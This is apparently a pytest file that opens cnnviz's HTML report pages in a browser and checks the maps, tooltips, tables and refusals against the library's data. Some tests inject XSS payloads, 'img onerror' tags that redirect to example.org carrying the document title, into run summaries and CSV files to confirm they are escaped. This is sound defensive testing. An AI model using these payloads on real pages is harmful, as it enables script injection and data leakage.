"""`cnnviz report`: pages opened in a browser, asked, and held against the library's numbers."""

import json
import re
import shutil
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from pages import HOSTILE, Opened
from parts import slow_but

from cnnviz.cli.main import run
from cnnviz.core.choices import typeset
from cnnviz.core.files import csv_text
from cnnviz.core.output.summary import read_summary
from cnnviz.embeddings.figures import looks_of
from cnnviz.embeddings.results import load as load_embedding
from cnnviz.occlusion.experiment import look
from cnnviz.occlusion.measurement import load
from cnnviz.occlusion.options import PanelSpec, Score
from cnnviz.reasons import load_run as load_reasons

PHOTO = "0_b_"
ALL = ["occlude", "classic", "tsne", "max-patches", "filters", "ablate", "layers", "saliency"]
ALL += ["activations", "audit", "diff"]


def folder(runs: Path, name: str) -> Path:
    """Where the summary of a run is."""
    return next(path.parent for path in sorted((runs / name).rglob("summary.json")))


@pytest.fixture
def written(runs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.chdir(runs)

    def write(*names: str) -> Path:
        page = tmp_path / f"{'-'.join(names)[:40]}.html"
        line = [str(folder(runs, name)) for name in names]
        assert run(["report", *line, "--out", str(page), "--quiet", "--data", "data"]) == 0
        return page

    return write


MAP = """() => {
  const found = [];
  for (const model of Bokeh.documents[0]._all_models.values())
    if (model.type === "ColumnDataSource" && model.data.image) found.push([...model.data.image[0]]);
  return found[0];
}"""


@pytest.mark.slow
@pytest.mark.parametrize("name", ["occlude", "classic", "sigmoid", "value"])
def test_the_map_on_the_page_is_the_librarys(
    name: str, runs: Path, written: Any, browser: Any
) -> None:
    measured = load(folder(runs, name))
    opened = Opened(browser, written(name))
    page = opened.page
    selects = page.locator("select")
    classes = selects.nth(0).locator("option").all_inner_texts()
    masks = selects.nth(2).locator("option").all_inner_texts()
    assert len(masks) == len(measured.grids)
    selects.nth(4).select_option("cells")
    scores = list(Score)
    if name == "sigmoid":
        scores.remove(Score.LOG_ODDS)  # which is the logit
    if name == "value":
        assert selects.nth(1).locator("option").all_inner_texts() == ["value"]
        scores = [Score.PROBABILITY]  # which is itself
    for score in scores:
        for place in (0, 3):
            for number in range(len(masks)):
                selects.nth(0).select_option(index=place)
                if name != "value":
                    selects.nth(1).select_option(score.value)
                selects.nth(2).select_option(index=number)
                page.wait_for_timeout(150)
                target = str(measured.labels.index(classes[place]))
                panels = look(measured, PanelSpec(targets=(target,), score=score)).panels
                wanted = panels[number].map_HW.numpy()
                shown = np.array(page.evaluate(MAP)).reshape(wanted.shape)[::-1]
                scale = max(1.0, float(np.abs(measured.logits_PK.numpy()).max()))
                bounded = score is Score.PROBABILITY and name != "value"
                tolerance = 6e-4 * (1 if bounded else scale)
                np.testing.assert_allclose(shown, wanted, atol=tolerance)
    opened.close()


FIGURE = """() => {
  const found = [];
  for (const model of Bokeh.documents[0]._all_models.values()) {
    if (model.type !== "Figure") continue;
    const view = Bokeh.index.find_one(model), {left, top} = view.el.getBoundingClientRect();
    const place = (xs, ys) => [left + view.frame.x_scale.compute(xs[12]),
                               top + view.frame.y_scale.compute(ys[12])];
    const arcs = [];
    for (const each of model.renderers)
      if (each.glyph.type === "MultiLine")
        each.data_source.data.text.forEach((text, n) => arcs.push(
          [text, ...place(each.data_source.data.xs[n], each.data_source.data.ys[n])]));
    found.push({arcs, shown: model.renderers.map((each) => each.visible)});
  }
  return found;
}"""


@pytest.mark.slow
def test_pointing_at_an_arc_shows_its_pair_and_a_name_hides_its_reason(
    runs: Path, written: Any, browser: Any
) -> None:
    ((target,),) = (one.targets for one in load_reasons(read_summary(folder(runs, "reasons"))))
    assert target.interactions is not None
    opened = Opened(browser, written("reasons"))
    page = opened.page
    (figure,) = page.evaluate(FIGURE)
    assert len(figure["arcs"]) == len(target.interactions.pairs) >= 2
    for pair in target.interactions.pairs[:2]:
        expected = (
            f"cells {pair.first} and {pair.second}, {pair.relation.value}: occluding both takes "
            f"{pair.both:.2f}"
        )
        ((text, x, y),) = (arc for arc in figure["arcs"] if arc[0].startswith(expected))
        assert page.get_by_text(text).count() == 0
        page.mouse.move(x, y)
        page.wait_for_timeout(300)
        assert page.get_by_text(text).is_visible()
        page.mouse.move(1, 1)
        page.wait_for_timeout(300)
    page.get_by_text(re.compile(r"^reason 1: ")).first.click()
    page.wait_for_timeout(300)
    changed = zip(figure["shown"], page.evaluate(FIGURE)[0]["shown"], strict=True)
    assert [one is other for one, other in changed].count(False) == 1
    opened.close()


@pytest.mark.slow
def test_pointing_at_a_place_says_what_covering_it_does(
    runs: Path, written: Any, browser: Any
) -> None:
    measured = load(folder(runs, "classic"))
    opened = Opened(browser, written("classic"))
    page = opened.page
    frame = page.locator(".bk-events, .bk-canvas-events, .bk-Canvas").first.bounding_box()
    page.mouse.move(frame["x"] + 60, frame["y"] + 90)
    page.wait_for_timeout(300)
    told = page.get_by_text(
        re.compile(r"^rows \d+ to \d+, columns \d+ to \d+ occluded")
    ).inner_text()
    y0, y1, x0, x1 = map(int, re.findall(r"\d+", told)[:4])
    boxes = measured.grids[0].boxes_P4.tolist()
    position = boxes.index([y0, x0, y1, x1])
    covered = measured.head.readings(measured.logits_PK[position])
    best = int(covered.argmax())
    rows = [row.locator("td").all_inner_texts() for row in page.locator("table tr").all()]
    label, untouched, now, change = next(
        r for r in rows if len(r) == 4 and r[0] == measured.labels[best]
    )
    before = float(measured.head.readings(measured.base_logits_K)[best])
    assert label == measured.labels[best]
    assert float(untouched) == pytest.approx(before, abs=6e-4)
    assert float(now) == pytest.approx(float(covered[best]), abs=1.1e-3)
    assert float(change.replace("−", "-")) == pytest.approx(
        float(covered[best]) - before, abs=1.6e-3
    )
    opened.close()


@pytest.mark.slow
@pytest.mark.parametrize(("width", "scheme"), [(1400, "light"), (390, "dark")])
def test_pages_of_all_commands_open_without_a_word_or_a_request(
    width: int, scheme: str, written: Any, browser: Any
) -> None:
    path = written(*ALL)
    opened = Opened(browser, path, width, scheme)
    body = opened.page.locator("body")
    assert body.evaluate("b => document.documentElement.scrollWidth") <= width + 1
    ground = body.evaluate("b => getComputedStyle(b).backgroundColor")
    assert (ground == "rgb(255, 255, 255)") == (scheme == "light")
    sections = opened.page.locator("h2").all_inner_texts()
    assert len(sections) == len(ALL) + 1  # and the units
    assert opened.page.locator("img[src^='data:']").count() > 10
    opened.close()
    text = path.read_text()
    assert HOSTILE not in text
    assert not re.search(r"<(script|link|img|iframe)[^>]+(src|href)=.?https?:", text)


@pytest.mark.slow
@pytest.mark.parametrize("name", ["occlude", "tsne", "ablate", "audit", "saliency"])
def test_pages_open_with_the_findings_and_fold_the_rest(
    name: str, runs: Path, written: Any, browser: Any
) -> None:
    findings = json.loads((folder(runs, name) / "summary.json").read_text())["findings"]
    opened = Opened(browser, written(name), width=390)
    page = opened.page
    table = next(finding for finding in findings if finding["columns"])
    expected = [table["columns"], *table["rows"]]
    cells = page.locator("section table").first.locator("th, td").all_text_contents()
    assert cells == [typeset(cell).replace(" %", "\u00a0%") for row in expected for cell in row]
    text = page.locator("body").inner_text()
    assert typeset(text) == text
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    assert page.get_by_text("About this run").first.is_visible()
    assert not page.locator("dl").first.is_visible()
    opened.close()


@pytest.mark.slow
def test_units_are_sorted_searched_and_shown(written: Any, browser: Any) -> None:
    opened = Opened(browser, written("max-patches", "filters", "ablate", "layers"))
    page = opened.page
    norm = page.locator(".slick-header-column", has_text="norm")
    table = page.locator(".bk-data-table:visible", has=norm).first
    table.locator(".slick-header-column", has_text="norm").first.click()
    page.wait_for_timeout(300)
    header = table.locator(".slick-header-column").all_inner_texts()
    column = [name.strip() for name in header].index("norm")
    cells = table.locator(f".slick-row .slick-cell.l{column}").all_inner_texts()
    norms = [float(cell) for cell in cells if cell.strip()]
    assert len(norms) > 5
    assert norms == sorted(norms)
    table.locator(".slick-row .slick-cell").first.click()
    page.wait_for_timeout(300)
    assert page.get_by_text("receptive field 3×3 pixels").count() == 1
    assert page.locator(".strip .cut").count() == 4
    assert page.locator(".strip").get_by_text("kernel", exact=True).count() == 1
    page.locator(".strip summary").first.click()
    assert page.locator(".strip details img").first.is_visible()
    page.locator("input[placeholder=search]:visible").first.fill("no such unit")
    page.keyboard.press("Enter")
    page.wait_for_timeout(400)
    assert table.locator(".slick-row").count() == 0
    opened.close()


@pytest.mark.slow
def test_an_image_of_the_map_is_shown_with_its_neighbours(
    runs: Path, written: Any, browser: Any
) -> None:
    opened = Opened(browser, written("tsne"))
    page = opened.page
    frame = page.locator(".bk-events, .bk-canvas-events, .bk-Canvas").first.bounding_box()
    right, up = page.evaluate(SHARES)  # of the first point, in the frame
    for offset in range(-24, 25, 3):
        page.mouse.move(
            frame["x"] + right * frame["width"] + offset,
            frame["y"] + (1 - up) * frame["height"],
        )
        if page.get_by_text("nearest in the features:").count():
            break
    assert page.get_by_text("nearest in the features:").count() == 1
    assert page.locator(".strip .cut").count() == 5
    assert page.get_by_text(re.compile(r"\d<b>\.png$")).count() >= 1
    drawn = looks_of(load_embedding(folder(runs, "tsne")))
    colours = page.evaluate(COLOURS)
    labels = load_embedding(folder(runs, "tsne")).label_names
    assert colours == [drawn[label][0] for label in labels]
    page.locator("select").nth(0).select_option("correctness")
    page.wait_for_timeout(200)
    assert page.get_by_text("wrong").count() >= 1
    before = page.evaluate(PLACES)
    page.locator("select").nth(1).select_option("perplexity 3")
    page.wait_for_timeout(200)
    assert page.evaluate(PLACES) != before
    opened.close()


SHARES = """() => {
  const all = [...Bokeh.documents[0]._all_models.values()];
  const figure = all.find((model) => model.type === "Figure");
  const {x, y} = all.find((model) => model.data?.colour && model.data.x).data;
  const share = (value, range) => (value - range.start) / (range.end - range.start);
  return [share(x[0], figure.x_range), share(y[0], figure.y_range)];
}"""
COLOURS = """() => {
  for (const model of Bokeh.documents[0]._all_models.values())
    if (model.type === "ColumnDataSource" && model.data.colour && model.data.x)
      return [...model.data.colour];
}"""
PLACES = """() => {
  for (const model of Bokeh.documents[0]._all_models.values())
    if (model.type === "ColumnDataSource" && model.data.colour && model.data.x)
      return [...model.data.x];
}"""


def test_the_heading_is_the_runs_or_as_requested(runs: Path, written: Any, tmp_path: Path) -> None:
    name = folder(runs, "classic")
    assert f"<h1>occlude: {name.name}".encode() in written("classic").read_bytes()
    assert b"<h1>2 runs of cnnviz</h1>" in written("classic", "layers").read_bytes()
    page = tmp_path / "titled.html"
    assert run(["report", str(name), "--out", str(page), "--title", "<b>Mine</b>"]) == 0
    assert b"<h1>&lt;b&gt;Mine&lt;/b&gt;</h1>" in page.read_bytes()


def test_a_small_page_says_what_it_leaves_out(
    runs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(runs)
    page = tmp_path / "small.html"
    line = ["report", *(str(folder(runs, name)) for name in ALL), "--out", str(page)]
    assert run([*line, "--max-mb", "2.5", "--json"]) == 0
    told = json.loads(capsys.readouterr().out)
    assert told["bytes"] == page.stat().st_size < 2.5e6
    assert told["left_out"]
    text = page.read_text()
    assert 'id="left-out"' in text
    assert run([*line, "--max-mb", "1", "--overwrite"]) == 2
    assert "an empty page takes" in capsys.readouterr().err


@pytest.mark.usefixtures("runs")
def test_report_beside_a_run_is_listed_and_goes_with_it(
    runs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(runs)
    out = tmp_path / "out"
    for command in (
        ["saliency", "data/cat/0<b>.png", "data/cat/2<b>.png"],
        ["filters", "--layer", "stem.conv", "--no-gabor"],
    ):
        line = [*command, "--quiet", "--report", "--out", str(out), "--overwrite"]
        assert run(line) == 0
        content = json.loads((out / "summary.json").read_text())
        assert "report.html" in content["files"]
        assert f"cnnviz {command[0]}" in (out / "report.html").read_text()
    assert run(["models", "bundled"]) == 0


def test_a_folder_of_runs_stands_for_all_of_them(
    runs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(runs)
    page = tmp_path / "page.html"
    assert folder(runs, "activations").parent == runs / "activations"
    assert run(["report", "activations", "filters", "--out", str(page), "--quiet"]) == 0
    text = page.read_text()
    assert "activations: 0_b_" in text
    assert ">filters</h2>" in text
    assert run(["diff", "occlude", "occlude", "--out", str(tmp_path / "d"), "--quiet"]) == 0


def test_refusals_say_why(
    runs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(runs)
    page = tmp_path / "page.html"

    def refused(*line: str) -> str:
        assert run(["report", *line, "--quiet"]) in (1, 2)
        told = capsys.readouterr().err
        assert len(told.strip().splitlines()) == 1
        return told

    own = str(folder(runs, "occlude"))
    assert "no finished run in data" in refused("data", "--out", str(page))
    assert "is a folder" in refused(own, "--out", str(tmp_path))
    (tmp_path / "mine.html").write_text("<p>mine</p>")
    mine = refused(own, "--out", str(tmp_path / "mine.html"), "--overwrite")
    assert "not a page of cnnviz" in mine
    assert (tmp_path / "mine.html").read_text() == "<p>mine</p>"
    assert run(["report", own, "--out", str(page), "--quiet"]) == 0
    assert "use --overwrite" in refused(own, "--out", str(page))
    assert run(["report", own, "--out", str(page), "--quiet", "--overwrite"]) == 0
    copy = tmp_path / "copy"
    shutil.copytree(own, copy)
    scores = copy / "scores.npz"
    scores.write_bytes(scores.read_bytes()[:1000])
    assert "damaged" in refused(str(copy), "--out", str(tmp_path / "x.html"))
    content = json.loads((copy / "summary.json").read_text())
    content["files"] = ["../mine.html", "../secret.png"]
    content["results"] = []
    (copy / "summary.json").write_text(json.dumps(content))
    assert "lists a file outside its folder" in refused(
        str(copy), "--out", str(tmp_path / "x.html")
    )
    (copy / "summary.json").write_text('{"schema": "cnnviz.x/1", "command": "x"}')
    assert "not a summary of cnnviz" in refused(str(copy), "--out", str(tmp_path / "x.html"))
    assert not (tmp_path / "x.html").exists()


LEAVES = "<img src=x onerror=\"location='https://example.org/?'+document.title\">"


@pytest.mark.slow
@pytest.mark.parametrize("name", ["layers", "saliency", "audit"])
def test_names_of_columns_are_text(name: str, runs: Path, tmp_path: Path, browser: Any) -> None:
    shutil.copytree(folder(runs, name), tmp_path / "run")
    summary = tmp_path / "run" / "summary.json"
    content = json.loads(summary.read_text())
    if isinstance(content["results"], list):
        for entry in content["results"]:
            entry[f"{LEAVES}key"] = LEAVES
    (tmp_path / "run" / "more.csv").write_text(
        "\n".join([f'"{LEAVES.replace(chr(34), chr(34) * 2)}",b', "1,2", "3,4"])
    )
    content["files"].append("more.csv")
    summary.write_text(json.dumps(content))
    page = tmp_path / "page.html"
    assert run(["report", str(tmp_path / "run"), "--out", str(page), "--quiet"]) == 0
    opened = Opened(browser, page)
    opened.unfold()
    titles = opened.page.locator(".slick-header-column").all_inner_texts()
    assert any("<img" in title for title in titles)
    opened.page.locator(".slick-header-column", has_text="<img").first.hover()
    opened.page.wait_for_timeout(300)
    opened.close()


def _made_hostile(value: Any, marks: list[str]) -> Any:
    """JSON data whose every text, and a new key of every object, are HTML with a script."""
    if isinstance(value, dict):
        changed = {key: _made_hostile(inner, marks) for key, inner in value.items()}
        return changed | {_mark(marks): _mark(marks)}
    if isinstance(value, list):
        return [_made_hostile(inner, marks) for inner in value]
    return _mark(marks) if isinstance(value, str) else value


def _mark(marks: list[str]) -> str:
    marks.append(f"<img src=x onerror=\"location='https://example.org/?{len(marks)}'\">")
    return marks[-1]


KEPT = ("schema", "command", "precision", "files")
"""What a summary needs to be one."""


def _hostile_run(source: Path, target: Path) -> list[str]:
    """Copies a run and makes its summary hostile, a value at a time where that is still read."""
    shutil.copytree(source, target)
    path, marks = target / "summary.json", list[str]()
    content = json.loads(path.read_text())
    (target / "more.csv").write_text(csv_text([[_mark(marks), "b"], [_mark(marks), _mark(marks)]]))
    content["files"].append("more.csv")
    path.write_text(json.dumps(content))
    page = ["report", str(target), "--out", str(target / "try.html"), "--quiet", "--overwrite"]

    def attempt(holder: Any, key: Any) -> None:
        before, count = holder[key], len(marks)
        holder[key] = _made_hostile(before, marks)
        path.write_text(json.dumps(content))
        if run(page) == 0:
            return
        holder[key] = before
        del marks[count:]
        if isinstance(before, dict):
            inner = list(before)
        else:  # entries of a list are alike
            inner = [0, len(before) - 1][: len(before)] if isinstance(before, list) else []
        for name in inner:
            attempt(before, name)

    for key in content:
        if key not in KEPT:
            attempt(content, key)
    path.write_text(json.dumps(content))
    return marks


@pytest.fixture
def hostile_page(name: str, runs: Path, built_once: Any) -> Path:
    """The page of a run whose every text is HTML; `marks` has the number of replaced texts."""

    def build(place: Path) -> None:
        marks = _hostile_run(folder(runs, name), place / "run")
        line = ["report", str(place / "run"), "--out", str(place / "page.html"), "--quiet"]
        assert run(line) == 0
        (place / "marks").write_text(str(len(marks)))

    return built_once(f"hostile-{name}", build) / "page.html"


@pytest.mark.parametrize("name", slow_but(ALL, "layers"))
def test_hostile_runs_are_text_in_the_page(name: str, hostile_page: Path) -> None:
    assert int(hostile_page.with_name("marks").read_text()) > 5
    assert not re.search(r"<img[^>]*onerror", hostile_page.read_text())


@pytest.mark.slow
@pytest.mark.parametrize("name", ALL)
def test_hostile_runs_do_nothing_in_a_browser(name: str, hostile_page: Path, browser: Any) -> None:
    opened = Opened(browser, hostile_page)
    opened.unfold()
    for what in (".slick-header-column", ".slick-row .slick-cell"):
        for place in range(min(opened.page.locator(what).count(), 60)):
            opened.page.locator(what).nth(place).dispatch_event("click")
    opened.page.wait_for_timeout(300)
    opened.close()
